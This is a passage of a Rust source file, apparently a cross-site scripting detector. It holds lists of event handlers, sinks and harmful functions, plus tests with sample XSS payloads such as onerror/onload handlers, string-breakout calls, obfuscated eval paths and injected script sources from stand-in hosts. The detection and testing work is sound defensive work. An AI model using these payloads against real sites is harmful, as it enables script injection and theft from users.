        if !identifier_before(b, end).is_some_and(is_event_handler) {
            return false;
        }
        let start = skip_space(b, i + 1);
        let name_end = start
            + b[start..]
                .iter()
                .take_while(|c| is_identifier_byte(**c))
                .count();
        let name = &b[start..name_end];
        let next = b.get(skip_space(b, name_end));
        (DIALOGS.contains(&name) || name == b"eval" || name == b"Function")
            && !next.is_some_and(|&c| is_identifier_byte(c) || matches!(c, b'(' | b'.' | b'['))
    })
}

/// Whether a quote that ends a JavaScript string is followed, after any
/// closing `)`, `]` or `}`, by an operator or `;` and then a call: an
/// identifier path (`fetch`, `navigator.sendBeacon`, `new Image`) directly
/// followed by `(` or a backtick. A space before the `(` is left to the
/// model (`'yes' - then (maybe)` is prose more often than code). A call by
/// a backtick (a tagged template) counts when the path names one of
/// `HARMFUL_TAGS` or the template runs a substitution (`${`): a tag is
/// handed the template's text, which only such functions turn into script,
/// a request or a dialog, and Markdown's inline code reads as one (``for
/// `&String` ``, ``passing `&K` to the callback``: a backtick closed, `&`,
/// then `String` or `K` tagging a template; 1.0 before).
pub fn string_breakout_call(v: &str) -> bool {
    let b = v.as_bytes();
    b.iter().enumerate().any(|(i, &q)| {
        if !matches!(q, b'\'' | b'"' | b'`') {
            return false;
        }
        let mut j = i + 1;
        while j < b.len() && matches!(b[j], b')' | b']' | b'}') {
            j += 1;
        }
        let ops = j;
        while j < b.len() && breakout_operator(b[j]) {
            j += 1;
        }
        if j == ops {
            return false;
        }
        j = skip_space(b, j);
        if b[j..].starts_with(b"new ") {
            j = skip_space(b, j + 4);
        }
        // An identifier path, then `(` or a backtick at once.
        let path = j;
        loop {
            if !b
                .get(j)
                .is_some_and(|&c| is_identifier_byte(c) && !c.is_ascii_digit())
            {
                return false;
            }
            while j < b.len() && is_identifier_byte(b[j]) {
                j += 1;
            }
            match b.get(j) {
                Some(b'.') => j += 1,
                Some(b'(') => return true,
                Some(b'`') => return harmful_tag(&b[path..j], &b[j + 1..]),
                _ => return false,
            }
        }
    })
}

/// Functions that do harm when a tagged template hands them its text,
/// beside the [`DIALOGS`] and [`CODE_RUNNERS`] (`` setTimeout`alert\x281\x29`
/// ``): requests and navigation, and HTML sinks (`` document.write`<img
/// ...>` ``, `` $`<img ...>` ``).
const HARMFUL_TAGS: &[&[u8]] = &[
    b"importScripts",
    b"fetch",
    b"open",
    b"sendBeacon",
    b"assign",
    b"replace",
    b"navigate",
    b"postMessage",
    b"write",
    b"writeln",
    b"insertAdjacentHTML",
    b"html",
    b"append",
    b"prepend",
    b"after",
    b"before",
    b"replaceWith",
    b"$",
    b"jQuery",
];

/// Whether the tag `path` (`fetch`, `top.fetch`, `eval.call`) names one of
/// the [`DIALOGS`], [`CODE_RUNNERS`] or [`HARMFUL_TAGS`], or the template
/// that follows (`rest`, up to its closing backtick) runs a substitution.
fn harmful_tag(path: &[u8], rest: &[u8]) -> bool {
    let template = &rest[..memchr::memchr(b'`', rest).unwrap_or(rest.len())];
    path.split(|&c| c == b'.').any(harmful_name) || memchr::memmem::find(template, b"${").is_some()
}

/// One of the [`DIALOGS`], [`CODE_RUNNERS`] or [`HARMFUL_TAGS`].
fn harmful_name(name: &[u8]) -> bool {
    DIALOGS
        .iter()
        .chain(CODE_RUNNERS)
        .chain(HARMFUL_TAGS)
        .any(|n| *n == name)
}

/// One of [`URL_ATTRIBUTES`], in any case.
fn is_url_attribute(name: &[u8]) -> bool {
    URL_ATTRIBUTES.iter().any(|a| name.eq_ignore_ascii_case(a))
}

/// Schemes whose URL runs script when followed (`data:` is judged by its
/// media type, [`script_data_url`]).
const SCRIPT_URL_SCHEMES: &[&[u8]] = &[b"javascript", b"vbscript", b"livescript", b"mocha"];

/// Whether an attribute value starting at `i` is a script URL: leading
/// spaces and control characters skipped, tabs and line breaks inside the
/// scheme dropped, as browsers do. The XSS model scored
/// `<iframe src=j&NewLine;&Tab;a...` 0.58 when trained without the lists.
fn script_url_at(b: &[u8], mut i: usize) -> bool {
    while b.get(i).is_some_and(|&c| c <= b' ') {
        i += 1;
    }
    // The scheme runs to the first `:`; `scheme_before` reads it back.
    while let Some(&c) = b.get(i) {
        match c {
            b':' => return scheme_before(b, i, SCRIPT_URL_SCHEMES),
            b'\t' | b'\n' | b'\r' => {}
            c if c.is_ascii_alphabetic() => {}
            _ => return false,
        }
        i += 1;
    }
    false
}

/// The span of the attribute value that starts at `at`, as a browser reads
/// it: inside its quotes up to the closing one (or the end), or, unquoted,
/// up to a space or `>`.
fn attribute_value(b: &[u8], at: usize) -> (usize, usize) {
    match b.get(at) {
        Some(&q @ (b'"' | b'\'' | b'`')) => {
            let to = memchr::memchr(q, &b[at + 1..]).map_or(b.len(), |e| at + 1 + e);
            (at + 1, to)
        }
        _ => {
            let to = b[at..]
                .iter()
                .position(|c| c.is_ascii_whitespace() || *c == b'>')
                .map_or(b.len(), |e| at + e);
            (at, to)
        }
    }
}

/// `on` and letters: `onerror`, `onpointerenter`, `onxxx`.
fn is_handler_name(w: &[u8]) -> bool {
    w.len() > 2 && w[..2].eq_ignore_ascii_case(b"on") && w[2..].iter().all(u8::is_ascii_alphabetic)
}

/// The event-handler attributes browsers know (HTML, SVG, and those of
/// older engines that XSS payloads still use), lower case and sorted.
/// Outside a tag only these count as a handler: `online=yes`, `onion=2` and
/// `onboarding=complete` are words of a query or of prose (0.61-0.87 to the
/// XSS model when any `on` word counted).
const EVENT_HANDLERS: &[&[u8]] = &[
    b"onabort",
    b"onactivate",
    b"onafterprint",
    b"onafterscriptexecute",
    b"onafterupdate",
    b"onanimationcancel",
    b"onanimationend",
    b"onanimationiteration",
    b"onanimationstart",
    b"onauxclick",
    b"onbeforeactivate",
    b"onbeforecopy",
    b"onbeforecut",
    b"onbeforedeactivate",
    b"onbeforeeditfocus",
    b"onbeforeinput",
    b"onbeforematch",
    b"onbeforepaste",
    b"onbeforeprint",
    b"onbeforescriptexecute",
    b"onbeforetoggle",
    b"onbeforeunload",
    b"onbeforeupdate",
    b"onbegin",
    b"onblur",
    b"onbounce",
    b"oncancel",
    b"oncanplay",
    b"oncanplaythrough",
    b"oncellchange",
    b"onchange",
    b"onclick",
    b"onclose",
    b"oncommand",
    b"oncontentvisibilityautostatechange",
    b"oncontextlost",
    b"oncontextmenu",
    b"oncontextrestored",
    b"oncontrolselect",
    b"oncopy",
    b"oncuechange",
    b"oncut",
    b"ondataavailable",
    b"ondatasetchanged",
    b"ondatasetcomplete",
    b"ondblclick",
    b"ondeactivate",
    b"ondrag",
    b"ondragend",
    b"ondragenter",
    b"ondragexit",
    b"ondragleave",
    b"ondragover",
    b"ondragstart",
    b"ondrop",
    b"ondurationchange",
    b"onemptied",
    b"onend",
    b"onended",
    b"onerror",
    b"onerrorupdate",
    b"onfilterchange",
    b"onfinish",
    b"onfocus",
    b"onfocusin",
    b"onfocusout",
    b"onformdata",
    b"onfullscreenchange",
    b"onfullscreenerror",
    b"ongotpointercapture",
    b"onhashchange",
    b"onhelp",
    b"oninput",
    b"oninvalid",
    b"onkeydown",
    b"onkeypress",
    b"onkeyup",
    b"onlanguagechange",
    b"onlayoutcomplete",
    b"onload",
    b"onloadeddata",
    b"onloadedmetadata",
    b"onloadend",
    b"onloadstart",
    b"onlosecapture",
    b"onlostpointercapture",
    b"onmessage",
    b"onmessageerror",
    b"onmousedown",
    b"onmouseenter",
    b"onmouseleave",
    b"onmousemove",
    b"onmouseout",
    b"onmouseover",
    b"onmouseup",
    b"onmousewheel",
    b"onmove",
    b"onmoveend",
    b"onmovestart",
    b"onmozfullscreenchange",
    b"onoffline",
    b"ononline",
    b"onpagehide",
    b"onpagereveal",
    b"onpageshow",
    b"onpageswap",
    b"onpaste",
    b"onpause",
    b"onplay",
    b"onplaying",
    b"onpointercancel",
    b"onpointerdown",
    b"onpointerenter",
    b"onpointerleave",
    b"onpointermove",
    b"onpointerout",
    b"onpointerover",
    b"onpointerrawupdate",
    b"onpointerup",
    b"onpopstate",
    b"onprogress",
    b"onpropertychange",
    b"onratechange",
    b"onreadystatechange",
    b"onrejectionhandled",
    b"onrepeat",
    b"onreset",
    b"onresize",
    b"onresizeend",
    b"onresizestart",
    b"onrowenter",
    b"onrowexit",
    b"onrowsdelete",
    b"onrowsinserted",
    b"onscroll",
    b"onscrollend",
    b"onscrollsnapchange",
    b"onscrollsnapchanging",
    b"onsearch",
    b"onsecuritypolicyviolation",
    b"onseeked",
    b"onseeking",
    b"onselect",
    b"onselectionchange",
    b"onselectstart",
    b"onshow",
    b"onslotchange",
    b"onstalled",
    b"onstart",
    b"onstorage",
    b"onsubmit",
    b"onsuspend",
    b"ontimeupdate",
    b"ontoggle",
    b"ontouchcancel",
    b"ontouchend",
    b"ontouchmove",
    b"ontouchstart",
    b"ontransitioncancel",
    b"ontransitionend",
    b"ontransitionrun",
    b"ontransitionstart",
    b"onunhandledrejection",
    b"onunload",
    b"onvolumechange",
    b"onwaiting",
    b"onwebkitanimationend",
    b"onwebkitanimationiteration",
    b"onwebkitanimationstart",
    b"onwebkitmouseforcechanged",
    b"onwebkitmouseforcedown",
    b"onwebkitmouseforceup",
    b"onwebkitmouseforcewillbegin",
    b"onwebkitplaybacktargetavailabilitychanged",
    b"onwebkittransitionend",
    b"onwebkitwillrevealbottom",
    b"onwheel",
    b"onzoom",
];

/// Whether `w` is one of [`EVENT_HANDLERS`], in any case.
fn is_event_handler(w: &[u8]) -> bool {
    let mut lower = [0u8; 48];
    if w.len() < 5 || w.len() > lower.len() || !w[..2].eq_ignore_ascii_case(b"on") {
        return false;
    }
    for (l, c) in lower.iter_mut().zip(w) {
        *l = c.to_ascii_lowercase();
    }
    EVENT_HANDLERS.binary_search(&&lower[..w.len()]).is_ok()
}

/// Whether the value adds an event-handler attribute to the element it
/// lands in: after a quote that closes an attribute value, or a space or
/// `/` that ends an unquoted one, a handler `EVENT_HANDLERS` knows, `=`,
/// and a value that calls something or assigns a sink (`" autofocus
/// onfocus="(open)('//x.example')`, `y onpointerenter=confirm`1``). The
/// browser runs that value when the event fires, whatever it calls: the
/// XSS model scored such values 0.0001-0.42 when the code was unlike its
/// training payloads (wapiti's attribute payloads, Debian's `wapiti`).
pub fn handler_breakout(v: &str) -> bool {
    let b = v.as_bytes();
    (1..b.len()).any(|start| {
        let sep = b[start - 1];
        if !(matches!(sep, b'"' | b'\'' | b'`' | b'/') || sep.is_ascii_whitespace())
            || !b
                .get(start..start + 2)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"on"))
        {
            return false;
        }
        let end = start
            + b[start..]
                .iter()
                .take_while(|c| c.is_ascii_alphabetic())
                .count();
        if !is_event_handler(&b[start..end]) {
            return false;
        }
        let eq = skip_space(b, end);
        if b.get(eq) != Some(&b'=') {
            return false;
        }
        let (from, to) = attribute_value(b, skip_space(b, eq + 1));
        let value = &b[..to];
        (from..to).any(|i| match value[i] {
            b'(' | b'`' => callee_before(value, i),
            b'=' => value.get(i + 1) != Some(&b'=') && assigns_sink(value, i),
            _ => false,
        })
    })
}

/// A byte of a JavaScript identifier (`[A-Za-z0-9_$]`; not the first when
/// a digit).
fn is_identifier_byte(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$'
}

/// The identifier that ends at `end` (exclusive), if any.
fn identifier_before(b: &[u8], end: usize) -> Option<&[u8]> {
    let start = b[..end]
        .iter()
        .rposition(|&c| !is_identifier_byte(c))
        .map_or(0, |p| p + 1);
    let w = &b[start..end];
    (!w.is_empty() && !w[0].is_ascii_digit()).then_some(w)
}

/// The index of the first non-whitespace byte from `i` on (or the end).
pub(super) fn skip_space(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && b[i].is_ascii_whitespace() {
        i += 1;
    }
    i
}

/// The index after the last non-whitespace byte before `i`.
fn skip_space_back(b: &[u8], i: usize) -> usize {
    b[..i]
        .iter()
        .rposition(|c| !c.is_ascii_whitespace())
        .map_or(0, |p| p + 1)
}

/// A call at `i` (`(` or a tagged template's backtick): an identifier, a
/// closing `)` or `]` (`(alert)(1)`, `top['alert'](1)`), a comment's `/`
/// (`alert/**/(1)`) or the `?.` of an optional call (`alert?.(1)`) before
/// it. `Room 12 (second floor)` is no call, and neither is a sentence's
/// full stop before a remark in parentheses (`Киллеры на кулере. (ОМОН на
/// вертолёте).` 0.977 when any `.` counted).
fn callee_before(b: &[u8], i: usize) -> bool {
    let end = skip_space_back(b, i);
    if end == 0 {
        return false;
    }
    if b[end - 1] == b')' && citation_label(b, end - 1) {
        return false;
    }
    if b[end - 1] == b']' && array_literal(b, end - 1) {
        return false;
    }
    let optional_call = b[end - 1] == b'.' && end >= 2 && b[end - 2] == b'?';
    // A `/` is a callee's end only as the end of a comment (`alert/**/(1)`):
    // after any other, the `(` opens a group of a sed or regex substitution
    // (`s/(a)/b/g`, 0.99 to the model) or of a division, and a regex literal
    // is not callable.
    let comment_end = b[end - 1] == b'/' && end >= 2 && b[end - 2] == b'*';
    matches!(b[end - 1], b')' | b']')
        || comment_end
        || optional_call
        || identifier_before(b, end).is_some()
}

/// Whether the `]` at `close` ends an array literal rather than a member
/// access: its `[` follows no name, `)` or `]` (white space aside), so a
/// call after it calls an array, which throws (`![a cat](cat.png)`, a
/// Markdown image, 0.62 to the model; `[docs](https://...)`, a link). A
/// member access (`top['alert'](1)`, `x ['al'+'ert'](1)`, `[alert][0](1)`)
/// still counts. The `[` is looked for at most `MAX_BRACKET` bytes back
/// (nested brackets read again at each `](` would cost their length
/// squared); farther, the call counts.
fn array_literal(b: &[u8], close: usize) -> bool {
    const MAX_BRACKET: usize = 256;
    let mut depth = 0usize;
    let from = close.saturating_sub(MAX_BRACKET);
    let mut i = close;
    while i > from {
        i -= 1;
        match b[i] {
            b']' => depth += 1,
            b'[' if depth == 0 => {
                let before = skip_space_back(b, i);
                return before == 0
                    || !(is_identifier_byte(b[before - 1])
                        || matches!(b[before - 1], b')' | b']'));
            }
            b'[' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// Whether the call whose `(` is at `i` (a callee before it,
/// [`callee_before`]) is for the model to judge: always when the callee is
/// an expression (`(alert)(1)`, `top['alert'](1)`, `alert/**/(1)`), a path
/// of names (`document.write(`, `String.fromCharCode(`), a constructor
/// (`new Image(`), or a name the value assigns or declares (`x=alert;x(1)`,
/// `function f(){...}f()`); a bare name only when it is one a page has
/// without defining it and that runs, loads, shows or decodes something
/// ([`BUILTIN_CALLS`]). Any other bare name is a function no page defines
/// by default: the call throws, wherever the value lands (`startswith(Name,
/// 'A')`, an OData filter, 0.62 to the model; `f(x) = x^2` 0.72; `item(s)`).
fn paren_call_counts<'a>(b: &'a [u8], i: usize, assigned: &mut Option<HashSet<&'a [u8]>>) -> bool {
    let end = skip_space_back(b, i);
    let Some(name) = identifier_before(b, end) else {
        return true;
    };
    let start = end - name.len();
    let before = skip_space_back(b, start);
    if before > 0 && b[before - 1] == b'.' {
        return true;
    }
    if before >= 3
        && &b[before - 3..before] == b"new"
        && (before == 3 || !is_identifier_byte(b[before - 4]))
    {
        return true;
    }
    if BUILTIN_CALLS.contains(&name) || harmful_name(name) || after_a_breakout(b, before) {
        return true;
    }
    assigned
        .get_or_insert_with(|| assigned_names(b))
        .contains(name)
}

/// Whether the text that ends at `end` is a quote that closes a string, then
/// operators or `;` (see [`string_breakout_call`]: `'-f(`, `");f(`): there a
/// call of any name is code in a script context, which may call a function
/// of the page's.
fn after_a_breakout(b: &[u8], end: usize) -> bool {
    let ops = b[..end]
        .iter()
        .rev()
        .take_while(|c| breakout_operator(**c))
        .count();
    if ops == 0 {
        return false;
    }
    let closers = b[..end - ops]
        .iter()
        .rev()
        .take_while(|c| matches!(c, b')' | b']' | b'}'))
        .count();
    end - ops - closers > 0 && matches!(b[end - ops - closers - 1], b'\'' | b'"' | b'`')
}

/// What follows a quote that closes a JavaScript string for code to go on
/// after it (`'-f(`, `');f(`, `'+f(`).
fn breakout_operator(c: u8) -> bool {
    matches!(
        c,
        b';' | b'+' | b'-' | b'*' | b'/' | b',' | b'|' | b'&' | b'^' | b'%'
    )
}

/// Functions a page has without defining them, besides the dialogs, code
/// runners and harmful tags, that a payload calls by a bare name: to load
/// (`import`, `require`), to decode or build the code it runs (`atob`,
/// `unescape`, `String`), or to reach the window (`top`, `self`...).
const BUILTIN_CALLS: &[&[u8]] = &[
    b"import",
    b"require",
    b"atob",
    b"btoa",
    b"unescape",
    b"escape",
    b"decodeURI",
    b"decodeURIComponent",
    b"String",
    b"fromCharCode",
    b"constructor",
    b"Reflect",
    b"Object",
    b"Array",
    b"Promise",
    b"Proxy",
    b"Image",
    b"XMLHttpRequest",
    b"WebSocket",
    b"Worker",
    b"EventSource",
    b"setImmediate",
    b"requestAnimationFrame",
    b"queueMicrotask",
    b"top",
    b"self",
    b"parent",
    b"window",
    b"frames",
    b"opener",
    b"globalThis",
    b"location",
    b"document",
    b"close",
    b"stop",
    b"find",
    b"focus",
    b"blur",
    b"scroll",
    b"scrollTo",
    b"scrollBy",
    b"moveTo",
    b"resizeTo",
    b"showModalDialog",
];

/// Whether the tagged template whose backtick is at `i` (a callee before
/// it, [`callee_before`]) is for the model to judge: always when the tag is
/// an expression (`(alert)`, `top['alert']`, `alert/**/`), and when it is a
/// name or a path of names only if [`harmful_tag`] says that tag runs,
/// loads or shows something (`alert`, `top.eval`, `$`), the template
/// substitutes (`${`), or the value assigns to the tag's name (``x=alert;
/// x`1` ``, an alias). Any other name is a function no page defines by
/// default, and the call throws: Markdown's inline code after a word
/// (``for `Response<Vec<u8>>` `` 0.95 to the model, ``Implement `Vec<u8>` ``).
fn template_tag_counts<'a>(
    b: &'a [u8],
    i: usize,
    assigned: &mut Option<HashSet<&'a [u8]>>,
) -> bool {
    let end = skip_space_back(b, i);
    let mut start = end;
    while start > 0 && (is_identifier_byte(b[start - 1]) || b[start - 1] == b'.') {
        start -= 1;
    }
    let path = &b[start..end];
    if path.is_empty() || path.first() == Some(&b'.') || path.last() == Some(&b'.') {
        return true;
    }
    let name = path.rsplit(|&c| c == b'.').next().unwrap_or(path);
    harmful_tag(path, &b[i + 1..])
        || assigned
            .get_or_insert_with(|| assigned_names(b))
            .contains(name)
}

/// The names `b` assigns a value to (`x=alert`, `obj.y = 1`: `x`, `y`;
/// not `x==1`, `f=>x`, `x<=1`), each the whole identifier before an
/// assignment's `=`, and the functions it declares (`function f(`: `f`).
/// Found in one pass: looked for again at each tagged template or call, a
/// value of `` `a `` repeated cost its length squared, and `function ` then
/// `a(` repeated took 5 s for 800 KB.
fn assigned_names(b: &[u8]) -> HashSet<&[u8]> {
    let declared = memchr::memmem::find_iter(b, b"function").filter_map(|f| {
        let at = skip_space(b, f + 8);
        let len = b[at..]
            .iter()
            .take_while(|&&c| is_identifier_byte(c))
            .count();
        (len > 0 && at > f + 8).then(|| &b[at..at + len])
    });
    assignments(b)
        .map(|(_, name)| name)
        .chain(declared)
        .collect()
}

/// Each assignment of `b` (see [`assignment_at`]) to a name: the `=` and
/// the whole identifier before it.
fn assignments(b: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    memchr::memchr_iter(b'=', b)
        .filter(move |&eq| assignment_at(b, eq))
        .filter_map(move |eq| Some((eq, name_before(b, eq)?)))
}

/// The whole identifier that ends before `i`, blanks between.
fn name_before(b: &[u8], i: usize) -> Option<&[u8]> {
    identifier_before(b, skip_space_back(b, i))
}

/// Whether `w` stands at `i` of `b` as a whole identifier.
fn word_at(b: &[u8], i: usize, w: &[u8]) -> bool {
    b[i..].starts_with(w)
        && (i == 0 || !is_identifier_byte(b[i - 1]))
        && b.get(i + w.len()).is_none_or(|&c| !is_identifier_byte(c))
}

/// Whether the byte at `i` is the `=` of an assignment: not part of `==`,
/// `=>`, `!=`, `<=` or `>=`.
fn assignment_at(b: &[u8], i: usize) -> bool {
    b.get(i) == Some(&b'=')
        && !matches!(b.get(i + 1), Some(b'=' | b'>'))
        && !matches!(b.get(i.wrapping_sub(1)), Some(b'=' | b'!' | b'<' | b'>'))
}

/// Whether the `)` at `close` ends a label of a legal or tax citation
/// written right after a number or another label: `501(c)(3)`, `Rule
/// 12(b)(6)`, `Art. 6(1)(f)`, `Section 3(a)(ii)` (0.69-0.9985 to the XSS
/// model, for the `(c)(3)` that JavaScript reads as a call). The label is
/// digits, one to three letters, or a Roman numeral: no function a page
/// has by default answers to such a name (`(eval)(x)`, `(alert)(1)` and
/// `(open)(x)` still count), and a call inside the parentheses that follow
/// is judged on its own.
fn citation_label(b: &[u8], close: usize) -> bool {
    let Some(open) = b[..close].iter().rposition(|c| !c.is_ascii_alphanumeric()) else {
        return false;
    };
    let label = &b[open + 1..close];
    let roman = |c: &u8| b"ivxlcdmIVXLCDM".contains(c);
    b[open] == b'('
        && open > 0
        && (b[open - 1].is_ascii_alphanumeric() || b[open - 1] == b')')
        && !label.is_empty()
        && (label.iter().all(u8::is_ascii_digit)
            || (label.len() <= 3 && label.iter().all(u8::is_ascii_alphabetic))
            || (label.len() <= 6 && label.iter().all(roman)))
}

/// Attributes that load or follow what their URL points to.
const URL_ATTRIBUTES: &[&[u8]] = &[
    b"href",
    b"src",
    b"action",
    b"formaction",
    b"data",
    b"xlink:href",
    b"background",
    b"poster",
    b"lowsrc",
    b"dynsrc",
    b"codebase",
];

/// An assignment at `i` (`=`) to an event handler (`onerror=`, in a tag or
/// not), to a sink (`location=`, `x.innerHTML=`, `a.href=`), or to a URL
/// attribute injected after a closing quote (`" src="//evil.example/x.js`).
fn assigns_sink(b: &[u8], i: usize) -> bool {
    let end = skip_space_back(b, i);
    let Some(w) = identifier_before(b, end) else {
        return false;
    };
    let on_handler = is_event_handler(w);
    let start = end - w.len();
    let property = start > 0 && b[start - 1] == b'.';
    let after_quote = b[..start]
        .iter()
        .rev()
        .find(|c| !(c.is_ascii_whitespace() || **c == b'/'))
        .is_some_and(|&c| c == b'"' || c == b'\'');
    on_handler
        || SINKS.iter().any(|s| w.eq_ignore_ascii_case(s))
        || ((property || after_quote) && is_url_attribute(w))
}

/// One of `schemes` ending at the `:` at `i`. Browsers drop tabs and
/// line breaks inside a URL, so `java\tscript:` is `javascript:`.
fn scheme_before(b: &[u8], i: usize, schemes: &[&[u8]]) -> bool {
    let mut letters = [0u8; 12];
    let mut n = 0;
    let mut j = i;
    while j > 0 {
        let c = b[j - 1];
        if c.is_ascii_alphabetic() {
            if n == letters.len() {
                return false;
            }
            letters[n] = c.to_ascii_lowercase();
            n += 1;
        } else if !matches!(c, b'\t' | b'\n' | b'\r') {
            break;
        }
        j -= 1;
    }
    if n == 0 || (j > 0 && b[j - 1].is_ascii_alphanumeric()) {
        return false;
    }
    letters[..n].reverse();
    schemes.iter().any(|s| &letters[..n] == *s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tagged_templates_after_a_breakout() {
        for v in [
            "'-setTimeout`alert\\x281\\x29`-'",
            "'+document.write`<img src=x>`+'",
            "'-$`<img src=x>`-'",
            "'-top.fetch`//evil.example`-'",
            "'-x`${alert(1)}`-'",
        ] {
            assert!(string_breakout_call(v), "{v}");
        }
        // Markdown's inline code: a backtick closed, `&`, a name, a backtick.
        for v in [
            "Add impl `IntoPattern` for `&String`",
            "passing `&K` to the callback",
            "takes it as a `&mut`.",
        ] {
            assert!(!string_breakout_call(v), "{v}");
        }
    }

    #[test]
    fn a_call_of_an_array_literal_is_no_call() {
        for v in ["![a cat](cat.png)", "see: [the docs](docs.md)", "[[a]](b)"] {
            assert!(!script_capable(v), "{v}");
        }
        for v in [
            "top['alert'](1)",
            "x ['al'+'ert'](1)",
            "[alert][0](1)",
            "(x)[0](1)",
            // After a name, a member access (`see[...]`), judged as before.
            "see [the docs](docs.md)",
            // A bracket opened too far back is judged as a call.
            &format!("[{}](1)", "a".repeat(300)),
        ] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn script_urls_that_run_nothing() {
        for v in [
            "javascript:void(0)",
            "javascript:void(0);",
            "JAVASCRIPT:void 0",
            "javascript:;",
            " javascript: ",
        ] {
            assert!(inert_script_url(v), "{v}");
        }
        for v in [
            "javascript:void(alert(1))",
            "javascript:void(0);alert(1)",
            "javascript:void(0)\nalert(1)",
            "javascript:void(1+alert(1))",
            "javascript:alert(1)",
            "xjavascript:void(0)",
            "javascript",
        ] {
            assert!(!inert_script_url(v), "{v}");
        }
    }

    #[test]
    fn markdown_autolinks_are_inert() {
        for v in [
            "* **Website**: <https://github.com/r-efi/r-efi/wiki>",
            "Mail me at <mailto:jane@example.com> please",
            "<HTTP://EXAMPLE.COM/A?B>",
            // Slack's links: a label after `|`, words and all.
            "<https://example.com|Click here>",
            "<mailto:jane@example.com|Jane Doe>",
            // A query: its first `=` gives `watch?v` a value, the rest is
            // inside that value.
            "<https://www.youtube.com/watch?v=dQw4w9WgXcQ>",
            "<https://api.example/items?page=2>; rel=\"next\", <https://api.example/items?page=5>; rel=\"last\"",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        for v in [
            // A value (`=`), a quote, another scheme, a tag left open.
            "<https://x.example/onclick=alert(1)>",
            "<https://x.example/ onmouseover=alert(1)>",
            "<https://x.example/?a/onclick=alert(1)>",
            "<https://x.example/a?b=1 onclick=alert(1)>",
            "<https://x.example/onclick=alert(1)?a=1>",
            "<javascript:alert(1)>",
            "<ftp://x.example/a> <b>",
            "<https://x.example/",
            "<https://x.example|<b>>",
            "<http://x.example/'><b>",
        ] {
            assert!(script_capable(v), "{v}");
        }
    }

    #[test]
    fn an_alias_of_a_dialog_or_code_runner_is_script() {
        for v in [
            "x=alert;x(1)",
            "x=alert;x`1`",
            "x = top.eval; x(name)",
            "q=setTimeout;q(name)",
        ] {
            assert!(calls_an_alias(v.as_bytes()), "{v}");
        }
        for v in [
            // No harmful function, another name called, a comparison, the
            // function called where it is assigned.
            "x=foo;x(1)",
            "x=open;y(1)",
            "x==alert;x(1)",
            "x=alert(1);x",
            "xy=alert;x(1)",
            "x=alert;xy(1)",
        ] {
            assert!(!calls_an_alias(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn a_bare_call_of_an_unknown_name_throws() {
        for v in [
            "startswith(Name,'A')",
            "contains(Title,'rust')",
            "f(x) = x^2",
            "y = f(x)",
            "Win32 lacks the equivalent of fork()",
            "Podręcznik(tm)",
            "foo(1)",
            // `URL` must be called with `new`; a name is not declared by
            // appearing elsewhere.
            "b=\"URL(\\\"\";",
            "fn(x) then function_of(y)",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        for v in [
            // Dialogs, code runners, loaders, decoders, window members.
            "alert(1)",
            "prompt(1)",
            "eval(name)",
            "fetch('//x.example')",
            "import('//x.example/m.js')",
            "atob('YWxlcnQoMSk=')",
            "top(1)",
            // Paths, constructors, expressions, aliases, declarations.
            "document.write(1)",
            "String.fromCharCode(88)",
            "x . y(1)",
            "new Image(1)",
            "new  Foo(1)",
            "(alert)(1)",
            "top['al'+'ert'](1)",
            "alert/**/(1)",
            "alert?.(1)",
            "x=alert;x(1)",
            "function f(){}f(1)",
            "function  g (){}g(1)",
            // Any name after a string breakout (see `string_breakout_call`).
            "\"-A(",
            "x');f(1)//",
        ] {
            assert!(script_capable(v), "{v}");
        }
        // A declared name must be the whole name, after a space.
        assert!(!assigned_names(b"function fx(){}").contains(&b"f"[..]));
        assert!(assigned_names(b"function f(){}").contains(&b"f"[..]));
        assert!(!assigned_names(b"functionf(){}").contains(&b"f"[..]));
    }

    #[test]
    fn a_template_tagged_with_an_unknown_name_is_markdown() {
        for v in [
            "for `Response<Vec<u8>>`.",
            "- Implement `From<Vec<u8>>` for `Response<Vec<u8>>`. [#2625]",
            "Implement `Body` for `http::Request<impl Body>`",
            "now returns `Option<Preference<Encoding>>`.",
        ] {
            assert!(!script_capable(v), "{v}");
        }
        for v in [
            // Tags that run, load or show; expressions; a substitution; an
            // alias assigned in the value.
            "alert`1`",
            "top.eval`alert\\x281\\x29`",
            "setTimeout`alert\\x281\\x29`",
            "$`<img src=x>`",
            "(alert)`1`",
            "top['alert']`1`",
            "alert/**/`1`",
            "[].constructor.constructor`alert\\x281\\x29```",
            "x`${alert(1)}`",
            "x=alert;x`1`",
            "a = eval, a`alert\\x281\\x29`",
            // A quote still makes any tag count (a breakout, a probe).
            "'<vector>",
            "\"<x>",
        ] {
            assert!(script_capable(v), "{v}");
        }
        let assigned = |b: &'static [u8], name: &[u8]| assigned_names(b).contains(name);
        assert!(assigned(b"x=alert;x`1`", b"x"));
        assert!(assigned(b"obj.y = 1;y`1`", b"y"));
        assert!(!assigned(b"x==alert;x`1`", b"x"));
        assert!(!assigned(b"xy=alert;x`1`", b"x"));
        assert!(!assigned(b"f=>x;x`1`", b"x"));
        assert!(!assigned(b"x<=1;x`1`", b"x"));
    }

    #[test]
    fn generated_secrets_call_nothing_a_page_has() {
        for v in [
            "7!BsAIue(zaqnzr^_",
            "MPH!W(ek+54#D",
            "((5TEs*s%CKDLuR(%u&J",
            "H5TF_.Uj(6P#86s4",
        ] {
            assert!(inert_secret(v), "{v}");
        }
        for v in [
            // Names of the page, whole and case-blind; the shape's limits.
            "alert(1)+xK9#mP2",
            "top.alert(1)#aaa",
            "xK9#mP2$vL5@(confirm)(1)",
            "$(location.hash)+aaaa",
            "fetch(location)+a",
            "EVAL(x)+aaaaaaa",
            "k9#mP2$vL5@_.template(x)",
            "x(1)",
            "aB3(k9#mP2' x",
            "aB3(k9#<mP2 x",
            "aB3(k9#mP2 x=1",
        ] {
            assert!(!inert_secret(v), "{v}");
        }
    }

    #[test]
    fn constructs_that_can_run_script() {
        for v in [
            "<script>var x = document.createElement('iframe')",
            "<svg/onload=alert(1)>",
            "<x onxxx=1",
            "<img src=x onerror=alert(1)>",
            "<a href=\"https://x.example\" onclick=\"go()\">x</a>",
